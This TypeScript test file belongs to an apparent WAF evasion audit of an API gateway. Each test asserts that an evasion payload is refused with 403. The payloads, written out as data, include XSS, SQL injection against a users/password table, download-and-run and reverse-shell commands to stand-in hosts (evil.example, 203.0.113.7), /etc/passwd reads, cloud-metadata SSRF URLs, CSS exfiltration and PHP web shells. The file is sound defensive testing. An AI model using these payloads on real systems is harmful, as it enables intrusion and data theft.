/**
 * Audit 11 (round 4 of the WAF evasion audit): the session-8 relaxations of the API profile, against the `waf`
 * policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording upstream,
 * over HTTP/1.1 and HTTP/2. Targets: merge tags judged as words (`{{ x | default: "…" }}`, `{% if … %}`, in
 * prose and in rich text), the `<style>` block and other parts of whole e-mail documents accepted by
 * `sanitizedHtml`, tags named in prose (`bareTagsInert`) and markup before a parenthesis (family `o`: CRS 932130's
 * globs and process substitution), request lines without CR/LF (family `n`), OAuth redirect URIs (family `r`),
 * breadcrumbs, prose parentheses (family `f`), markdown code spans and fenced blocks (the SQL break-out guards),
 * and JSON writes to file paths with base64 content. Every technique here is one the gateway stops: the request
 * is refused with the status asserted and the upstream never sees it. The techniques that got through are in the
 * audit's report, not here.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = join(import.meta.dirname, '../../../shared/crs/v4.28.0');
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => req('POST', '/x', JSON_CT, J({ [field]: value }));
/** A URL-encoded form with one field. */
const form = (field: string, value: string): Buffer =>
  req('POST', '/x', [['Content-Type', 'application/x-www-form-urlencoded']], `${field}=${E(value)}`);
/** A multipart/form-data body (boundary `b`) with one field. */
const multipart = (field: string, value: string): Buffer =>
  req(
    'POST',
    '/x',
    [['Content-Type', 'multipart/form-data; boundary=b']],
    `--b\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--b--\r\n`,
  );
const get = (target: string): Buffer => req('GET', target, []);

interface Case {
  readonly name: string;
  readonly status: number;
  readonly build: () => Buffer;
}

const THANKS = ' thanks for the order today';
const P_HELLO = '<p>Hello there friend, welcome aboard.</p>';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // Merge tags are words to the prose and rich-text judgements: what a merge tag may hold is still inspected.
  {
    name: 'merge tag: output filter argument breaks out of a title attribute to add a handler',
    status: 403,
    build: () =>
      json(
        'body',
        `<p>Hello there friend, <a href="/" title='{{ a | default: "' onmouseover=alert(document.domain) x='" }}'>welcome</a> aboard.</p>`,
      ),
  },
  {
    name: 'merge tag: <svg onload> inside a {% if %} control tag of rich text',
    status: 403,
    build: () =>
      json('body', '<p>Hello {% if a <svg onload=location=name> %} there friend, welcome aboard.</p>'),
  },
  {
    name: 'merge tag: <img onerror> inside a {% if %} control tag of rich text',
    status: 403,
    build: () =>
      json('body', '<p>Hello {% if a <img src=x onerror=location=name> %} there friend, welcome aboard.</p>'),
  },
  {
    name: 'merge tag: <img onerror> inside a {% if %} control tag, form field',
    status: 403,
    build: () =>
      form('body', '<p>Hello {% if a <img src=x onerror=location=name> %} there friend, welcome aboard.</p>'),
  },
  {
    name: 'merge tag: <iframe srcdoc> with a script inside a {% if %} tag of prose (no other markup)',
    status: 403,
    build: () =>
      json('comment', "Hello there friend {% if a <iframe srcdoc='<script>top.pwned=1'> %} welcome aboard."),
  },
  {
    name: 'merge tag: unclosed <script> inside a {% if %} tag of a query parameter (no other markup)',
    status: 403,
    build: () => get(`/x?q=${E(`Hi {% if a <script>location=name %}${THANKS}`)}`),
  },
  {
    name: 'merge tag: UNION SELECT inside a {% if %} control tag',
    status: 403,
    build: () =>
      json('comment', `Hi {% if x' union select password from users where 'a'='a %}${THANKS} friend`),
  },
  {
    name: "merge tag: tautology `x' or 'a'<'b` in a double-quoted filter argument",
    status: 403,
    build: () => json('comment', `Hi {{ first_name | default: "x' or 'a'<'b" }}${THANKS}`),
  },
  {
    name: 'merge tag: comparison against a column after the filter argument',
    status: 403,
    build: () => json('comment', `Hi {{ first_name | default: " or password>"m" }}${THANKS}`),
  },
  {
    name: "merge tag: `'; curl … ; sh x; '` in a filter argument",
    status: 403,
    build: () =>
      json('comment', `Hi {{ first_name | default: "'; curl evil.example -o x; sh x; '" }}${THANKS}`),
  },
  {
    name: "merge tag: `'; wget …; sh index.html; '` in a filter argument",
    status: 403,
    build: () =>
      json('comment', `Hi {{ first_name | default: "'; wget evil.example; sh index.html; '" }}${THANKS}`),
  },
  {
    name: 'merge tag: glob-obfuscated /etc/passwd read in a filter argument',
    status: 403,
    build: () =>
      json('comment', `Hi {{ first_name | default: "'; /bi[n]/ca[t] /et[c]/pa[s]swd; '" }}${THANKS}`),
  },
  // Rich text and tags named in prose: family `o` lifts 932130 (process substitution, bracket globs).
  {
    name: 'prose without markup: bracket-glob /bin/cat /etc/passwd after a semicolon (control)',
    status: 403,
    build: () => json('comment', 'Hello there my friend; /bi[n]/c[a]t /e[t]c/pa[s]swd'),
  },
  {
    name: 'bare tag: ?-glob read of /etc/passwd after a semicolon',
    status: 403,
    build: () => json('comment', 'why do <b> tags break; /???/c?t /e??/p?ss??'),
  },
  {
    name: 'rich text: ?-glob read of /etc/passwd after a semicolon',
    status: 403,
    build: () => json('body', '<p>Hello there friend</p> welcome aboard; /???/c?t /???/p??sw?'),
  },
  {
    name: 'rich text: process substitution `</p>(…)` with a globbed curl',
    status: 403,
    build: () => json('body', '<p>Hello there friend</p>(/???/cu[r]l evil.example -o /tmp/x)'),
  },
  {
    name: 'rich text: globbed python3 running os.system',
    status: 403,
    build: () =>
      json(
        'body',
        '<p>Hello there friend</p> welcome aboard; /u?r/b?n/p?th?n3 -c "import os;os.system(chr(105)+chr(100))"',
      ),
  },
  {
    name: 'rich text: download and run on the lines after the markup',
    status: 403,
    build: () => json('body', '<p>Hello there friend, welcome aboard</p>\nwget evil.example\nsh index.html'),
  },
  {
    name: 'breadcrumb: a menu path, then a download piped to a shell',
    status: 403,
    build: () => json('comment', 'Open Settings > Billing and run; wget evil.example -O- | sh'),
  },
  // Whole e-mail documents: the style block and its neighbours.
  {
    name: 'document: <style> with a url() beacon behind an attribute selector',
    status: 403,
    build: () =>
      json(
        'body',
        `<style>body:has(input[value^=a]){background:url(https://evil.example/a)}</style>${P_HELLO}`,
      ),
  },
  {
    name: 'document: <style> with @import',
    status: 403,
    build: () => json('body', `<style>@import "https://evil.example/x.css";</style>${P_HELLO}`),
  },
  {
    name: 'document: <style> with expression()',
    status: 403,
    build: () => json('body', `<style>p{width:expression(alert(1))}</style>${P_HELLO}`),
  },
  {
    name: 'document: a script after a clean <style> block',
    status: 403,
    build: () => json('body', `<style>p{color:red}</style><script>alert(1)</script>${P_HELLO}`),
  },
  {
    name: 'document: inline position:fixed overlay',
    status: 403,
    build: () => json('body', '<p style="position:fixed;top:0">Hello there friend, welcome aboard.</p>'),
  },
  {
    name: 'document: <meta http-equiv=refresh> to another host (family n lifts 921130 only)',
    status: 403,
    build: () => json('note', "<meta http-equiv=refresh content='0;url=https://evil.example/phish'>"),
  },
  {
    name: 'document: <meta http-equiv=refresh> after clean rich text',
    status: 403,
    build: () =>
      json('body', `${P_HELLO}<meta http-equiv=refresh content='0;url=https://evil.example/phish'>`),
  },
  // Family n: request lines without CR/LF.
  {
    name: 'request line: percent-encoded CRLF and a second request (decoded-url view)',
    status: 403,
    build: () => json('url', '/api HTTP/1.1%0d%0aHost: internal%0d%0a%0d%0aGET /admin HTTP/1.1'),
  },
  {
    name: 'request line: percent-encoded CRLF and Set-Cookie',
    status: 403,
    build: () => json('next', '/home HTTP/1.1%0d%0aSet-Cookie: session=attacker'),
  },
  // Family r: OAuth redirect URIs.
  {
    name: 'redirect URI: metadata.google.internal',
    status: 403,
    build: () => json('redirect_uri', 'http://metadata.google.internal/computeMetadata/v1/'),
  },
  {
    name: 'redirect-like member that is fetched (logo_uri) naming the EC2 metadata alias',
    status: 403,
    build: () => json('logo_uri', 'http://instance-data/latest/meta-data/iam/security-credentials/'),
  },
  {
    name: 'webhook URL to a loopback Consul agent',
    status: 403,
    build: () => json('webhook_url', 'http://127.0.0.1:8500/v1/agent/self'),
  },
  // Family f: function calls in prose.
  {
    name: 'prose: require(child_process).execSync with a download piped to sh',
    status: 403,
    build: () =>
      json(
        'comment',
        "please check the order today friend, require('child_process').execSync('curl evil.example|sh') thanks",
      ),
  },
  {
    name: 'prose: require(child_process) after a // comment',
    status: 403,
    build: () =>
      json(
        'comment',
        "please check the order today my friend and thanks // require('child_process').execSync('ls') ",
      ),
  },
  {
    name: 'prose: require(child_process) after a semicolon',
    status: 403,
    build: () =>
      json(
        'comment',
        "please check the order today my friend and thanks ; require('child_process').execSync('ls')",
      ),
  },
  {
    name: 'prose: a currency amount in parentheses next to system($_GET)',
    status: 403,
    build: () =>
      json('comment', 'Quote for the order ($5,000 inc VAT) please check it today friend; system($_GET)'),
  },
  // Markdown code spans and fenced blocks: the SQL break-out guards.
  {
    name: 'code span: break-out hidden by inline comments',
    status: 403,
    build: () => json('comment', "Please see `x'/**/or/**/1=1/**/or/**/'` thanks a lot"),
  },
  {
    name: 'fenced block: a quote right after a value character, then a concatenated subquery',
    status: 403,
    build: () => json('comment', "~~~\nx' || (select password from users limit 1) || '\n~~~"),
  },
  {
    name: 'fenced block with a space before the break-out quote, in a name field (no document field)',
    status: 403,
    build: () => json('name', "~~~\nx ' or 1=1 or '\n~~~"),
  },
  {
    // Session 9: `bodyId` is no document field any more (its last word is `id`), so the fence is not cut out;
    // a string break-out inside it meets every rule.
    name: 'fenced string break-out in an id field whose name starts with a document word',
    status: 403,
    build: () => json('bodyId', "```\nx' or 1=1 --\n```"),
  },
  // JSON writes to file paths (920440 off): the content is still decoded and read.
  ...[
    ['PHP web shell', '<?php system($_GET["c"]); ?>'],
    ['short-tag backtick web shell', '<?=`$_GET[c]`?>'],
  ].map(
    ([what, php]): Case => ({
      name: `file write: PUT …/shell.php with a base64 ${what}`,
      status: 403,
      build: () =>
        req(
          'PUT',
          '/repos/acme/site/contents/shell.php',
          JSON_CT,
          J({ message: 'add file', path: 'web/shell.php', content: b64(php as string) }),
        ),
    }),
  ),
  {
    name: 'multipart: <img onerror> inside a {% if %} control tag',
    status: 403,
    build: () =>
      multipart(
        'body',
        '<p>Hello {% if a <img src=x onerror=location=name> %} there friend, welcome aboard.</p>',
      ),
  },
  // The bypasses this audit found, fixed in session 9 (each refused now).
  {
    name: 'B1: {% if %} hides a script closed by the Twitter embed',
    status: 403,
    build: () =>
      json(
        'body',
        `<p>Hello there friend {% if a <script>location=name\n' %}it'<!-- wp:x --><script async src="https://platform.twitter.com/widgets.js"></script> welcome aboard.</p>`,
      ),
  },
  {
    name: 'B1: {% if %} hides a blind SQL oracle',
    status: 403,
    build: () =>
      json('comment', "Hi {% if x' or name='admin' and password>'m %} thanks for the order today friend"),
  },
  {
    name: 'B1: same in a query parameter',
    status: 403,
    build: () =>
      get(`/x?q=${E("Hi {% if x' or name='admin' and password>'m %} thanks for the order today friend")}`),
  },
  {
    name: 'B1: {% if %} hides command lines',
    status: 403,
    build: () =>
      json('comment', 'Hi {% if a\nwget evil.example\nsh index.html\n%} thanks for the order today friend'),
  },
  {
    name: 'B2: filter argument tautology',
    status: 403,
    build: () => json('comment', "Hi {{ first_name | default: ' or 1=1 or ' }} thanks for the order today"),
  },
  {
    name: 'B2: filter argument tautology without =',
    status: 403,
    build: () => json('comment', "Hi {{ first_name | default: ' or 1 or ' }} thanks for the order today"),
  },
  {
    name: 'B2: filter argument command list',
    status: 403,
    build: () =>
      json(
        'comment',
        'Hi {{ first_name | default: "x; curl evil.example -o x; sh x" }} thanks for the order today',
      ),
  },
  {
    name: 'B2: filter argument command substitution',
    status: 403,
    build: () =>
      json('comment', 'Hi {{ first_name | default: "$(curl evil.example|sh)" }} thanks for the order today'),
  },
  {
    name: 'B3: htmx data-hx-on--load',
    status: 403,
    build: () =>
      json(
        'body',
        '<p>Hello there friend, <div data-hx-on--load="fetch(&quot;https://evil.example/c?&quot;+document.cookie)">welcome</div> aboard.</p>',
      ),
  },
  {
    name: 'B3: AngularJS data-ng-click',
    status: 403,
    build: () =>
      json(
        'body',
        '<p>Hello there friend, <a data-ng-click="$event.view.alert(document.domain)">welcome</a> aboard.</p>',
      ),
  },
  {
    name: 'B3: Knockout data-bind',
    status: 403,
    build: () =>
      json(
        'body',
        '<p>Hello there friend, <span data-bind="html: constructor.constructor(&quot;alert(document.domain)&quot;)()">welcome</span> aboard.</p>',
      ),
  },
  {
    name: 'B4: bare tag then bracket-glob cat',
    status: 403,
    build: () => json('comment', 'why do <b> tags break; /bi[n]/c[a]t /e[t]c/pa[s]swd'),
  },
  {
    name: 'B4: rich text then globbed reverse shell',
    status: 403,
    build: () =>
      json('body', '<p>Hello there friend</p> welcome aboard; /bi[n]/n[c] -e /bi[n]/s[h] 203.0.113.7 4444'),
  },
  {
    name: 'B5: code span || subquery',
    status: 403,
    build: () => json('title', "Please see `x' || (select password from users limit 1) || '` thanks a lot"),
  },
  {
    name: 'B5: code span is not null union',
    status: 403,
    build: () =>
      json('comment', "Please see `x' is not null union select password from users where '1` thanks a lot"),
  },
  {
    name: 'B5: fence with a space before the quote',
    status: 403,
    build: () => json('comment', "~~~\nx ' || (select password from users limit 1) || '\n~~~"),
  },
  {
    name: 'B5: page_size read as a document field',
    status: 403,
    build: () => json('page_size', "~~~\nx ' or 1=1 or '\n~~~"),
  },
  {
    name: 'B5: sort_desc read as a document field',
    status: 403,
    build: () => json('sort_desc', "~~~\nx ' or 1=1 or '\n~~~"),
  },
  {
    name: 'B6: style block CSS exfiltration',
    status: 403,
    build: () =>
      json(
        'body',
        '<style>body:has(input[name=csrf][value^=a]){background-image:image-set("https://evil.example/leak?p=a" 1x)}</style><p>Hello there friend, welcome aboard.</p>',
      ),
  },
  {
    name: 'B6: style block page overlay',
    status: 403,
    build: () =>
      json(
        'body',
        '<style>a{position:fixed;top:0;left:0;width:100%;height:100%}</style><p>Hello there friend, <a href="https://evil.example/">welcome</a> aboard.</p>',
      ),
  },
  {
    name: 'B7: XHTML ac:script',
    status: 403,
    build: () =>
      json(
        'body',
        '<html xmlns:ac="http://www.w3.org/1999/xhtml"><body><p>Hello there friend, welcome aboard.</p><ac:script>window.pwned=1</ac:script></body></html>',
      ),
  },
  {
    name: 'B8: redirect_uri to the EC2 metadata alias',
    status: 403,
    build: () => json('redirect_uri', 'http://instance-data/latest/meta-data/iam/security-credentials/'),
  },
  {
    name: 'B8: redirect_uri to the Docker API',
    status: 403,
    build: () => json('redirect_uri', 'http://localhost:2375/containers/json'),
  },
  {
    name: 'B8: a URL the server fetches named like a redirect URI',
    status: 403,
    build: () => json('sector_identifier_redirect_uri', 'http://127.0.0.1:8080/admin'),
  },
  {
    name: 'B9: a request line with encoded CR LF',
    status: 403,
    build: () => json('url', '/api HTTP/1.1&#13;&#10;Host: internal&#13;&#10;&#13;&#10;GET /admin HTTP/1.1'),
  },
  {
    name: 'B10: referrer policy meta in rich text',
    status: 403,
    build: () =>
      json(
        'body',
        '<meta name="referrer" content="unsafe-url"><p>Hello there friend, <a href="https://evil.example/">welcome</a> aboard.</p>',
      ),
  },
  {
    name: 'B11: a tagged template after a script tag named in prose',
    status: 403,
    build: () =>
      json(
        'comment',
        'Why do these script tags still show up in my page <script>location.assign`https:evil.example`',
      ),
  },
];

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'merge tag: <img onerror> inside a {% if %} control tag',
    headers: H2_POST,
    body: J({
      body: '<p>Hello {% if a <img src=x onerror=location=name> %} there friend, welcome aboard.</p>',
    }),
  },
  {
    name: 'merge tag: UNION SELECT inside a {% if %} control tag',
    headers: H2_POST,
    body: J({ comment: `Hi {% if x' union select password from users where 'a'='a %}${THANKS} friend` }),
  },
  {
    name: 'bare tag: ?-glob read of /etc/passwd',
    headers: { ':method': 'GET', ':path': `/x?q=${E('why do <b> tags break; /???/c?t /e??/p?ss??')}` },
  },
  {
    name: 'document: <style> with a url() beacon',
    headers: H2_POST,
    body: J({
      body: `<style>body:has(input[value^=a]){background:url(https://evil.example/a)}</style>${P_HELLO}`,
    }),
  },
];

describe(
  'audit11: WAF evasions of the session-8 API-profile relaxations the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit11-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('comment', 'Hi {{ first_name | default: "there" }}, your order shipped today and arrives soon'),
        json('comment', 'Hi {% if order.total > 100 %}you get free shipping{% endif %} on this order today'),
        json('body', `<style>p{color:#333;font-family:Arial}</style>${P_HELLO}`),
        json('comment', 'why do <script> tags still show up in innerHTML and <img onerror> handlers not'),
        json('redirect_uri', 'https://localhost:3000/callback'),
        json('request', 'GET /index.html HTTP/1.1'),
        json('comment', 'Please run `npm ci` before the build, thanks a lot'),
        req(
          'PUT',
          '/repos/acme/site/contents/docs/readme.md',
          JSON_CT,
          J({ message: 'docs', content: b64('# Readme\n\nHello there.\n') }),
        ),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of CASES) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), c.status, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      const port = gw.ports.h2 as number;
      assert.equal(
        await h2(port, H2_POST, J({ comment: 'Hi {{ first_name }}, your order shipped today' })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of H2_CASES) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
